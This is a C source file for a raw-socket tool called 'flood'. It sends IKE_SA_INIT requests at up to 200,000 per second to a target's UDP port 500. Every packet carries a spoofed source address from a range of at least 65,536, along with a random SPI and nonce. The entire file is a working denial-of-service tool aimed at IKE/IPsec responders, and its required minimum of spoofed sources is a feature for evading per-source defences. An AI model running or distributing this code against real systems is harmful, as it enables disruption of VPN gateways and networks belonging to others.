/* Spoofed IKE_SA_INIT requests at a steady rate: one template, a fresh SPI and nonce and a random source in each.
 *
 * flood TEMPLATE NONCE_OFFSET NONCE_LENGTH DESTINATION FIRST_SOURCE SOURCES RATE SECONDS
 * TEMPLATE is a file with the message (a UDP payload for port 500). Sources are FIRST_SOURCE and the SOURCES - 1
 * addresses after it. Writes "sent N short M seconds S" at the end; stops by itself. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 32, MESSAGE_MAX = 2048, PORT = 500, SPI = 8, SOURCES_MIN = 65536, RATE_MAX = 200000, SECONDS_MAX = 600 };

struct datagram {
    struct iphdr ip;
    struct udphdr udp;
    uint8_t message[MESSAGE_MAX];
};

struct plan {
    uint8_t message[MESSAGE_MAX];
    size_t length, nonce_at, nonce_length;
    struct sockaddr_in destination;
    uint32_t first_source, sources, rate, seconds;
};

static uint64_t state;

static uint64_t draw(void) /* xorshift64*: fast, and nobody guards a secret with it */
{
    state ^= state >> 12;
    state ^= state << 25;
    state ^= state >> 27;
    return state * 0x2545F4914F6CDD1DULL;
}

static void fill(uint8_t *at, size_t length)
{
    for (size_t i = 0; i < length; i += 8) {
        uint64_t drawn = draw();
        memcpy(at + i, &drawn, length - i < 8 ? length - i : 8);
    }
}

static void address(struct datagram *out, const struct plan *plan)
{
    uint32_t source = plan->first_source + (uint32_t)(draw() % plan->sources);
    fill(out->message, SPI);
    fill(out->message + plan->nonce_at, plan->nonce_length);
    out->ip.saddr = htonl(source);
}

static void prepare(struct datagram *out, const struct plan *plan)
{
    memset(out, 0, sizeof(*out));
    memcpy(out->message, plan->message, plan->length);
    out->udp.source = out->udp.dest = htons(PORT);
    out->udp.len = htons((uint16_t)(sizeof(out->udp) + plan->length)); /* no checksum: IPv4 allows it */
    out->ip.version = 4;
    out->ip.ihl = 5;
    out->ip.ttl = 64;
    out->ip.protocol = IPPROTO_UDP;
    out->ip.daddr = plan->destination.sin_addr.s_addr; /* the kernel fills in length, id and checksum */
}

static double now(void)
{
    struct timespec at;
    clock_gettime(CLOCK_MONOTONIC, &at);
    return (double)at.tv_sec + (double)at.tv_nsec / 1e9;
}

static void wait_until(double when)
{
    struct timespec at = {.tv_sec = (time_t)when, .tv_nsec = (long)((when - (double)(time_t)when) * 1e9)};
    while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &at, NULL) == EINTR)
        ;
}

static void run(int out, const struct plan *plan)
{
    static struct datagram datagrams[BATCH];
    static struct mmsghdr headers[BATCH];
    static struct iovec parts[BATCH];
    for (int i = 0; i < BATCH; i++) {
        prepare(&datagrams[i], plan);
        parts[i] = (struct iovec){&datagrams[i], sizeof(struct iphdr) + sizeof(struct udphdr) + plan->length};
        headers[i].msg_hdr = (struct msghdr){.msg_name = (void *)&plan->destination,
                                             .msg_namelen = sizeof(plan->destination),
                                             .msg_iov = &parts[i],
                                             .msg_iovlen = 1};
    }
    uint64_t wanted = (uint64_t)plan->rate * plan->seconds, sent = 0, refused = 0;
    double start = now();
    while (sent + refused < wanted) {
        uint64_t left = wanted - sent - refused;
        unsigned count = left < BATCH ? (unsigned)left : BATCH;
        for (unsigned i = 0; i < count; i++)
            address(&datagrams[i], plan);
        wait_until(start + (double)(sent + refused) / plan->rate);
        int taken = sendmmsg(out, headers, count, 0);
        sent += taken > 0 ? (uint64_t)taken : 0;
        refused += taken > 0 ? count - (unsigned)taken : count;
    }
    printf("sent %llu short %llu seconds %.3f\n", (unsigned long long)sent, (unsigned long long)refused, now() - start);
}

static int read_message(const char *path, struct plan *plan)
{
    FILE *file = fopen(path, "rb");
    if (file == NULL)
        return -1;
    plan->length = fread(plan->message, 1, sizeof(plan->message), file);
    int whole = feof(file);
    fclose(file);
    return plan->length > SPI && whole && plan->nonce_at + plan->nonce_length <= plan->length ? 0 : -1;
}

int main(int argc, char **argv)
{
    struct plan plan = {.destination = {.sin_family = AF_INET}};
    struct in_addr first;
    if (argc != 9 || inet_pton(AF_INET, argv[4], &plan.destination.sin_addr) != 1 ||
        inet_pton(AF_INET, argv[5], &first) != 1) {
        fprintf(stderr,
                "usage: flood TEMPLATE NONCE_OFFSET NONCE_LENGTH DESTINATION FIRST_SOURCE SOURCES RATE SECONDS\n");
        return 2;
    }
    plan.nonce_at = strtoul(argv[2], NULL, 10);
    plan.nonce_length = strtoul(argv[3], NULL, 10);
    plan.first_source = ntohl(first.s_addr);
    plan.sources = (uint32_t)strtoul(argv[6], NULL, 10);
    plan.rate = (uint32_t)strtoul(argv[7], NULL, 10);
    plan.seconds = (uint32_t)strtoul(argv[8], NULL, 10);
    if (plan.sources < SOURCES_MIN || plan.rate < 1 || plan.rate > RATE_MAX || plan.seconds > SECONDS_MAX ||
        read_message(argv[1], &plan) != 0) {
        fprintf(stderr, "flood: at least %d sources, at most %d a second for %d s, and a message that fits\n",
                SOURCES_MIN, RATE_MAX, SECONDS_MAX);
        return 2;
    }
    int out = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (out < 0 || getrandom(&state, sizeof(state), 0) != sizeof(state)) {
        perror("flood");
        return 1;
    }
    state |= 1;
    run(out, &plan);
    return 0;
}
